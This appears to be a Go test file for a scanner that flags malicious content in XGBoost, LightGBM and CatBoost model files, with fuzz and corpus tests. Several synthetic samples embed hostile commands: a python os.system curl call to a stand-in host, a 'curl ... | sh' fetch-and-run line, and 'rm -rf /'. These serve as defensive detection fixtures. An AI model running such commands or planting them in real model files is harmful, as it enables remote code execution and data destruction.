package xgboost_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"os"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/data"
	"modelwall/scan/engine"
	"modelwall/scan/scantest"
	"modelwall/scan/xgboost"
)

func key(s string) string {
	return "L" + string(binary.BigEndian.AppendUint64(nil, uint64(len(s)))) + s
}

func str(s string) string { return "S" + key(s) }

func floats(n int) string {
	return "[$d#" + "L" + string(binary.BigEndian.AppendUint64(nil, uint64(n))) + strings.Repeat("\x3f\x80\x00\x00", n)
}

func ubj(attribute string) string {
	return "{" + key("learner") + "{" + key("attributes") + "{" + key("note") + str(attribute) + "}" +
		key("feature_names") + "[#i\x02" + str("a") + str("b") + key("weights") + floats(100) + key("names") + "[" + str("x") + "NZTFi\x05]" +
		key("count") + "I\x00\x05" + "}" + key("version") + "[#U\x02i\x01i\x02" + "}"
}

func old(objective string, marked bool) string {
	s := strings.Repeat("\x00\x00\x00\x3f", 34)
	if marked {
		s = "binf" + s
	}
	return s + string(binary.LittleEndian.AppendUint64(nil, uint64(len(objective)))) + objective + "\x06\x00\x00\x00\x00\x00\x00\x00gbtree" + strings.Repeat("\x00\x01", 100)
}

func light(line string) string {
	return "tree\nversion=v4\nnum_class=1\nfeature_names=system_health execution_time_ms\n" + line + "\nTree=0\nnum_leaves=2\n"
}

func cat(n int, text string) string {
	return "CBM1" + string(binary.LittleEndian.AppendUint32(nil, uint32(n))) + text
}

func samples() map[string][]scantest.Sample {
	const info, low, sus = scan.Info, scan.Low, scan.SeveritySuspicious
	const evil = "python -c \"import os; os.system('curl https://x.example/')\""
	return map[string][]scantest.Sample{
		"xgboost": {
			{Name: "ubj", Data: []byte(ubj("best model of the system")), Worst: info},
			{Name: "ubj with a command", Data: []byte(ubj(evil)), Worst: sus},
			{Name: "ubj, trailing", Data: []byte(ubj("") + "xx"), Worst: low},
			{Name: "ubj, cut off", Data: []byte(ubj("")[:200]), Err: scan.ErrMalformed},
			{Name: "ubj, too many", Data: []byte(strings.Replace(ubj(""), "#i\x02", "#i\x7f", 1)[:150]), Err: scan.ErrMalformed},
			{Name: "ubj, deep", Data: []byte("{" + key("a") + strings.Repeat("[", 5000)), Err: scan.ErrLimit},
			{Name: "text", Data: []byte("{UserName} begins a line of text that goes on and on, to the end of a page and beyond it, as long as the first letter says it should be"), Err: scan.ErrForeign},
			{Name: "arrays of nothing", Data: []byte("{" + key("a") + "[" + strings.Repeat("[$N#l\x00\x00\x10\x00", 1<<10) + strings.Repeat("Z", 4096) + "]}"), Worst: info},
			{Name: "not ubj", Data: []byte("{i\x01a?"), Err: scan.ErrForeign},
			{Name: "old", Data: []byte(old("reg:squarederror", false)), Worst: info},
			{Name: "old, marked", Data: []byte(old("binary:logistic", true)), Worst: info},
			{Name: "old with a command", Data: []byte(old("binary:logistic", true) + evil), Worst: sus},
		},
		"lightgbm": {
			{Name: "text", Data: []byte(light("parameters:")), Worst: info},
			{Name: "text, other lines", Data: []byte(strings.ReplaceAll(light("[metric: l2]"), "\n", "\r\n")), Worst: info},
			{Name: "command", Data: []byte(light("metadata=os.system('curl https://x.example/p.sh | sh')")), Worst: sus},
		},
		"catboost": {
			{Name: "model", Data: []byte(cat(27, "feature_system\x00exec_time_ms\x00")), Worst: info},
			{Name: "parts behind the core", Data: []byte(cat(3, "abc\x00\x01\x02\x03")), Worst: info},
			{Name: "command", Data: []byte(cat(len(evil), evil)), Worst: sus},
			{Name: "cut off", Data: []byte(cat(128, "tiny")), Worst: low, Err: scan.ErrMalformed},
		},
	}
}

func TestScanners(t *testing.T) {
	for _, s := range xgboost.New() {
		t.Run(s.Format(), func(t *testing.T) { scantest.Run(t, s, samples()[s.Format()]) })
	}
}

func TestNotMatched(t *testing.T) {
	for _, b := range []string{"", "{", "{\"a\": 1}", "{ }", "{Like this}", "tree\nnothing", "CBM2....", strings.Repeat("x", 300)} {
		for _, s := range xgboost.New() {
			if s.Match(scantest.Probe("x.ubj", []byte(b))) {
				t.Errorf("%s matches %q", s.Format(), b)
			}
		}
	}
}

type counting struct {
	io.ReaderAt
	n int64
}

func (c *counting) ReadAt(p []byte, off int64) (int, error) {
	n, err := c.ReaderAt.ReadAt(p, off)
	c.n += int64(n)
	return n, err
}

// TestBytesRead: numbers are skipped.
func TestBytesRead(t *testing.T) {
	b := []byte("{" + key("a") + floats(4<<20) + key("b") + str("os.system('rm -rf /')") + "}")
	c := &counting{ReaderAt: bytes.NewReader(b)}
	r := &scantest.Record{}
	err := xgboost.New()[0].Scan(context.Background(), scan.File{Size: int64(len(b)), ReaderAt: c}, r)
	if err != nil || r.Worst() != scan.SeveritySuspicious || c.n > 256<<10 {
		t.Errorf("%v, %d bytes read, findings %+v", err, c.n, r.Findings)
	}
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	eng := engine.New(append(xgboost.New(), data.New()...), engine.Limits{TempDir: t.TempDir()})
	n := 0
	for _, e := range scantest.Corpus(t, corpus) {
		if e.Format != "xgboost" && e.Format != "lightgbm" && e.Format != "cbm" {
			continue
		}
		n++
		b, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		r, err := eng.Inspect(context.Background(), scantest.Bytes(e.Path, b))
		if err != nil {
			t.Fatal(err)
		}
		if flagged := r.Worst() >= scan.SeveritySuspicious; flagged != (e.Label != "benign") || r.Error != "" {
			t.Errorf("%s %s: %v %v %s %+v", e.Label, e.Path, r.Formats, r.Verdict, r.Error, r.Findings)
		}
	}
	if n == 0 {
		t.Error("no boosted trees in the corpus")
	}
}

func FuzzScan(f *testing.F) {
	for _, list := range samples() {
		for _, s := range list {
			f.Add(s.Data)
		}
	}
	scanners := xgboost.New()
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, s := range scanners {
			if s.Match(scantest.Probe("x", b)) {
				scantest.Fuzz(t, s, b)
			}
		}
	})
}
